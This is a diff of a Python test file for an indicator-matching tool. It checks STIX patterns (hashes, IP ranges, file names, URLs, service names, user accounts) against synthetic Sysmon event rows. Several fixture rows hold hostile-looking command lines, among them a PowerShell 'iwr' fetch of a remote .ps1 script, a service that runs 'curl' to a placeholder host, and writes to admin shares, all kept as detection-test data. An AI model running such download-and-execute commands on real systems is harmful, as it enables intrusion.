@@ -34,15 +34,21 @@ ZONE = (
 """As a record of Sysmon 15 stands in a log; its URLs stand in the text of the stream alone."""
 COLUMNS = (
     *("id", "source_address", "target_address", "query", "target_host", "path", "relative_path", "previous_path", "image", "command_line"),
-    *("parent_command_line", "hashes", "answers", "log", "raw"),
+    *("parent_command_line", "hashes", "answers", "log", "raw", "source_port", "target_port", "share", "share_path", "service"),
+    *("user", "user_domain", "target_user", "target_user_domain"),
 )
+AA, BB, CC = "a" * 40, "b" * 32, "c" * 64
 ROWS: dict[str, dict[str, object]] = {
     "e1": {
         "source_address": "10.0.0.1",
         "target_address": "10.0.0.2",
         "image": "C:\\W\\Evil.exe",
         "command_line": 'cmd /c "C:\\W\\Evil.exe" http://Bad.example:80/x/ ',
-        "hashes": "SHA1=AA,MD5=BB",
+        "hashes": f"SHA1={AA.upper()},MD5={BB.upper()},IMPHASH={'D' * 32}",
+        "source_port": 51515,
+        "target_port": 445,
+        "user": "Adm.Koch",
+        "user_domain": "CORP",
     },
     "e2": {
         "target_address": "10.0.0.3",
@@ -54,15 +60,22 @@ ROWS: dict[str, dict[str, object]] = {
         "query": "mail.example.",
         "target_host": "srv.bad.example",
         "relative_path": "tools/evil.exe",
-        "hashes": "SHA256=cc,MD5=bb",
+        "hashes": f"SHA256={CC},MD5={BB}",
         "answers": ["10.9.9.9", "cname.example"],
     },
     "e4": {
         "command_line": "powershell -c \"New-Item -Path 'HKCU:\\Software\\A B\\C'; iwr http://user@10.7.7.7:8080/a.ps1, 'x'\"",
         "parent_command_line": 'cmd /c reg query "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" & rem http://parent.example/p',
     },
-    "e5": {"log": "system-7045", "path": "cmd.exe /c reg import Registry::HKLM\\System\\Svc & curl http://[2001:db8::1]/svc"},
+    "e5": {
+        "log": "system-7045",
+        "service": "EvilSvc",
+        "path": "cmd.exe /c reg import Registry::HKLM\\System\\Svc & curl http://[2001:db8::1]/svc",
+    },
     "e6": {"log": "sysmon-11", "path": "C:\\cmd http://path.example/ HKLM\\Not\\This"},
+    "e8": {"share": "\\\\*\\D$", "share_path": "\\??\\D:\\", "relative_path": "Tools\\New\\pipe.exe", "target_user": "svc"},
+    "e9": {"share": "\\\\*\\ADMIN$", "relative_path": "Temp\\adm.exe"},
+    "e10": {"path": "\\\\10.0.0.9\\C$\\Windows/Temp\\wire.exe", "target_address": "2001:db8::9"},
     "e7": {"log": "sysmon-15", "path": "C:\\x.exe", "raw": ZONE},
 }
 
@@ -71,7 +84,7 @@ ROWS: dict[str, dict[str, object]] = {
 def database(tmp_path: Path) -> Iterator[Database]:
     made = connect(tmp_path)
     columns: dict[str, list[object]] = {name: [id_ if name == "id" else row.get(name) for id_, row in ROWS.items()] for name in COLUMNS}
-    types = {"answers": pa.list_(pa.string()), "raw": pa.binary()}
+    types = {"answers": pa.list_(pa.string()), "raw": pa.binary(), "source_port": pa.int32(), "target_port": pa.int32()}
     made.register("given", pa.table({name: pa.array(values, types.get(name, pa.string())) for name, values in columns.items()}))
     made.execute("CREATE TABLE events AS SELECT *, TIMESTAMP '2025-01-01 12:00:00' AS time FROM given")
     made.unregister("given")
@@ -105,13 +118,40 @@ def outdated(database: Database) -> list[tuple[str, str, str]]:
         ("[domain-name:value = 'cname.example']", ["e3"]),
         ("[domain-name:value = 'srv.bad.example']", ["e3"]),
         ("[url:value = 'http://bad.example:80/x']", ["e1"]),
-        ("[url:value = 'http://bad.example:80/']", []),
+        ("[url:value = 'http://bad.example:80/']", ["e1"]),
+        ("[url:value = 'http://bad.example/y']", []),
         ("[file:name = 'EVIL.exe']", ["e1", "e2", "e3"]),
         ("[file:name = 'vil.exe']", []),
-        ("[file:hashes.MD5 = 'bb']", ["e1", "e3"]),
-        ("[file:hashes.'SHA-1' = 'aa']", ["e1"]),
-        ("[file:hashes.'SHA-256' = 'CC']", ["e3"]),
-        ("[file:hashes.'SHA-256' = 'aa']", []),
+        (f"[file:hashes.MD5 = '{BB}']", ["e1", "e3"]),
+        (f"[file:hashes.'SHA-1' = '{AA}']", ["e1"]),
+        (f"[file:hashes.'SHA-256' = '{CC.upper()}']", ["e3"]),
+        (f"[file:hashes.'SHA-256' = '{'a' * 64}']", []),
+        (f"[file:hashes.IMPHASH = '{'d' * 32}']", ["e1"]),
+        (f"[file:hashes.MD5 = '{'d' * 32}']", []),
+        (f"[file:hashes.MD5 = '{BB}' AND file:hashes.'SHA-256' = '{CC}' AND file:size = 7]", ["e1", "e3", "e3"]),
+        ("[ipv4-addr:value = '10.0.0.0/30']", ["e1", "e2"]),
+        ("[ipv4-addr:value ISSUBSET '10.9.0.0/16']", ["e3"]),
+        ("[ipv4-addr:value = '10.0.1.0/24']", []),
+        ("[ipv6-addr:value = '2001:db8::/32']", ["e10", "e5"]),
+        ("[ipv4-addr:value = '10.0.0.1' AND network-traffic:src_port = 51515]", ["e1"]),
+        ("[network-traffic:dst_ref.value = '10.0.0.1' AND network-traffic:dst_port = 445]", []),
+        ("[network-traffic:dst_ref.value = '10.0.0.2' AND network-traffic:dst_port = 445]", ["e1"]),
+        ("[network-traffic:dst_port = 445]", ["e1"]),
+        ("[network-traffic:src_port = 445]", []),
+        ("[file:name = 'C:\\\\W\\\\evil.exe']", ["e1", "e2"]),
+        ("[file:name = 'D:\\\\W\\\\evil.exe']", []),
+        ("[file:name = 'D:\\\\tools\\\\new\\\\pipe.exe']", ["e8"]),
+        ("[file:name = 'tools\\\\new\\\\pipe.exe']", ["e8"]),
+        ("[file:name = 'new\\\\pipe.exe']", ["e8"]),
+        ("[file:name = 'ew\\\\pipe.exe']", []),
+        ("[file:name = 'C:\\\\Windows\\\\Temp\\\\adm.exe']", ["e9"]),
+        ("[file:name = 'C:\\\\Windows\\\\Temp\\\\wire.exe']", ["e10"]),
+        ("[directory:path = 'C:\\\\Windows\\\\Temp']", ["e10", "e9"]),
+        ("[user-account:account_login = 'adm.koch']", ["e1"]),
+        ("[user-account:account_login = 'corp\\\\ADM.Koch']", ["e1"]),
+        ("[user-account:account_login = 'svc']", ["e8"]),
+        ("[process:extensions.'windows-service-ext'.service_name = 'evilsvc']", ["e5"]),
+        ("[url:value = 'http://parent.example']", ["e4"]),
         ("[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run']", ["e2"]),
         ("[windows-registry-key:key = 'HKCU\\\\Software\\\\Run']", []),
         ("[url:value = 'http://user@10.7.7.7:8080/A.ps1']", ["e4"]),
@@ -221,7 +261,7 @@ def test_indicators_meet_a_case(tmp_path: Path) -> None:
         load(library, [Document("feed", None, json.dumps(objects).encode(), "")])
         knowledge = read_knowledge(library)
         library.close()
-        unevaluated = sight(database, knowledge)
+        sought = sight(database, knowledge)
         [sighted] = summarize_sightings(database, knowledge)
         assert (sighted.indicator, sighted.observable, sighted.value) == (objects[0]["id"], "file_name", name)
         assert sighted.count >= count > 0
@@ -229,7 +269,8 @@ def test_indicators_meet_a_case(tmp_path: Path) -> None:
         [late] = summarize_outdated(database, knowledge)
         assert (late.indicator, late.value, late.valid_until) == (objects[3]["id"], name, "2000-01-02T00:00:00.000000Z")
         assert (late.count, late.first, late.examples) == (sighted.count, sighted.first, sighted.examples)
-        assert [(one.indicator, one.reason) for one in unevaluated] == [(objects[2]["id"], "the operator LIKE is not evaluated")]
+        assert [(one.indicator, one.reason) for one in sought.unevaluated] == [(objects[2]["id"], "the operator LIKE is not evaluated")]
+        assert sought.looked_for == 2
         write_sightings(database, tmp_path / "tables")
         edges = {path.stem: pq.read_table(path).to_pylist() for path in (tmp_path / "tables" / "edges").iterdir()}
         events = [event for (event,) in database.execute("SELECT DISTINCT event FROM sightings").fetchall()]
